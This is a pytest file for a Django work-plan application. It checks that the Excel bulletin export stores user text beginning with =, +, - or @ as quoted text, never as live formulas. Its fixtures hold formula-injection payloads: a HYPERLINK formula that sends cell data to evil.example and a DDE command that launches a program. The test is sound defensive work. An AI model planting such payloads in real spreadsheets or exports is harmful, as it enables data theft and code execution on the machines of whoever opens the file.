"""The Excel bulletin writes every user text as text: no live formula, whatever it starts with."""

import io

import openpyxl
import pytest
from django.urls import reverse

from departments.models import Department, Membership
from departments.roles import LEADERSHIP_GROUP
from departments.services import membership_set, role_group
from tasks.models import WorkItem
from tasks.services import plan_import_document
from tests.factories import approved_report

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看详情")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE_PLAN = (
    "测试总工会2020年工作要点\n2020年的总体要求是：稳中求进。\n"
    "一、=1+1思想引领\n"
    '1.=HYPERLINK("http://evil.example/","点击")强化理论武装。（责任部室：@SUM部）\n'
    "2.+做好宣传工作。（责任部室：@SUM部、-2+3办）\n"
)


@pytest.fixture
def leader(django_user_model):
    user = django_user_model.objects.create_user(username="leader", password="pw-for-tests-1")
    user.groups.add(role_group(LEADERSHIP_GROUP))
    return user


@pytest.fixture
def hostile_plan(leader, django_user_model):
    """An imported plan whose section, item titles and department names start like formulas, with a
    lead's narrative and a co-organizer's narrative that are formulas, both approved."""
    plan = plan_import_document(data=HOSTILE_PLAN.encode(), filename="plan.txt").plan
    lead, co_organizer = Department.objects.get(name="@SUM部"), Department.objects.get(name="-2+3办")
    reporter = django_user_model.objects.create_user(username="reporter", password="pw-for-tests-1")
    admin = django_user_model.objects.create_user(username="planadmin", password="pw-for-tests-1", is_superuser=True)
    membership_set(user=reporter, department=lead, role=Membership.Role.MEMBER)
    membership_set(user=reporter, department=co_organizer, role=Membership.Role.MEMBER)
    items = {item.number: item for item in WorkItem.objects.filter(section__plan=plan)}
    approved_report(item=items[1], department=lead, reporter=reporter, narrative=HYPERLINK, reviewer=admin,
                    narrative_visibility="plan")
    approved_report(item=items[2], department=co_organizer, reporter=reporter, narrative=DDE, reviewer=admin,
                    narrative_visibility="plan")
    return plan


def test_no_cell_of_the_excel_bulletin_is_a_formula(client, leader, hostile_plan):
    # given a plan and reports whose texts start with = + - @
    client.force_login(leader)
    # when the leader downloads the Excel bulletin
    response = client.get(reverse("dashboard:bulletin-excel"), {"year": 2020})
    assert response.status_code == 200, response.content.decode()[-1500:]
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    # then not one cell is a formula, and each hostile text is there as text, with Excel's quote prefix
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    looks_like_formula = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in looks_like_formula)
    shown = {cell.value for cell in looks_like_formula}
    assert {HYPERLINK, "@SUM部"} <= shown, shown
